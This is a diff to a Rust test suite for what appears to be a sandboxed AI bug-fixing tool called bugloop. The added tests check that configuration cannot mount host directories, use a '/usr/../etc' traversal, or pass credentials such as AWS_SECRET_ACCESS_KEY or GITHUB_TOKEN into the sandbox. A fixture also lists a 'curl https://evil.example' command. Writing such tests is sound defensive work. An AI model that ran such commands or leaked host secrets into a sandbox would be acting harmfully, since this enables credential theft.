@@ -367,7 +367,7 @@ gate:
   commands:
     - curl https://evil.example
 sandbox:
-  env_allowlist: [CARGO_HOME, AWS_SECRET_ACCESS_KEY]
+  env_allowlist: [CARGO_HOME, AWS_REGION]
   home_dirs: [.ssh]
 model:
   providers:
@@ -935,4 +935,62 @@ fn the_readme_example_is_valid() {
     let config = parse(example).unwrap_or_else(|e| panic!("{e}\n{example}"));
     assert_eq!(config.solve.max_review_iterations, 5);
     assert_eq!(config.labels.needs_human, "bugloop:escalated");
+}
+
+/// Whoever writes the configuration may not be whoever runs bugloop: no layer, trusted or not,
+/// may add a host directory outside the toolchain roots to the sandbox, pass a credential's
+/// variable into it, or name bugloop's, the forge's or a runner's variable as a model key.
+#[test]
+fn no_layer_may_reach_the_hosts_secrets() {
+    for (text, key, words) in [
+        (
+            "sandbox:\n  system_paths: [/etc/bugloop]\n",
+            "sandbox.system_paths[0]",
+            "may only be a toolchain directory under /usr, /opt, /nix, /snap, /gnu",
+        ),
+        (
+            "sandbox:\n  system_paths: [/usr/../etc]\n",
+            "sandbox.system_paths[0]",
+            "may only be a toolchain directory",
+        ),
+        (
+            "sandbox:\n  env_allowlist: [CARGO_HOME, BUGLOOP_WEBHOOK_SECRET]\n",
+            "sandbox.env_allowlist[1]",
+            "is one of bugloop's, the forge's or the runner's (BUGLOOP_*)",
+        ),
+        (
+            "sandbox:\n  env_allowlist: [AWS_SECRET_ACCESS_KEY]\n",
+            "sandbox.env_allowlist[0]",
+            "is named like a credential (`SECRET`)",
+        ),
+        (
+            "sandbox:\n  env_allowlist: [NPM_TOKEN]\n",
+            "sandbox.env_allowlist[0]",
+            "is named like a credential (`TOKEN`)",
+        ),
+        (
+            "model:\n  providers:\n    x:\n      base_url: http://x/v1\n      api_key_env: GITHUB_TOKEN\n",
+            "model.providers.x.api_key_env",
+            "(GITHUB_*), not a model provider's key",
+        ),
+    ] {
+        let error = load_layered(&Sources {
+            base: Some(SourceText::new(BASE_LABEL, text)),
+            ..Sources::default()
+        })
+        .unwrap_err()
+        .to_string();
+        assert!(
+            error.contains(key) && error.contains(words),
+            "{text}: {error}"
+        );
+    }
+    let fine = load_layered(&Sources {
+        base: Some(SourceText::new(
+            BASE_LABEL,
+            "sandbox:\n  system_paths: [/opt/toolchains, /usr/local/go]\n  env_allowlist: [CARGO_HOME, GOPATH, AWS_REGION]\nmodel:\n  providers:\n    x:\n      base_url: http://x/v1\n      api_key_env: X_API_KEY\n",
+        )),
+        ..Sources::default()
+    });
+    assert!(fine.is_ok(), "{fine:?}");
 }
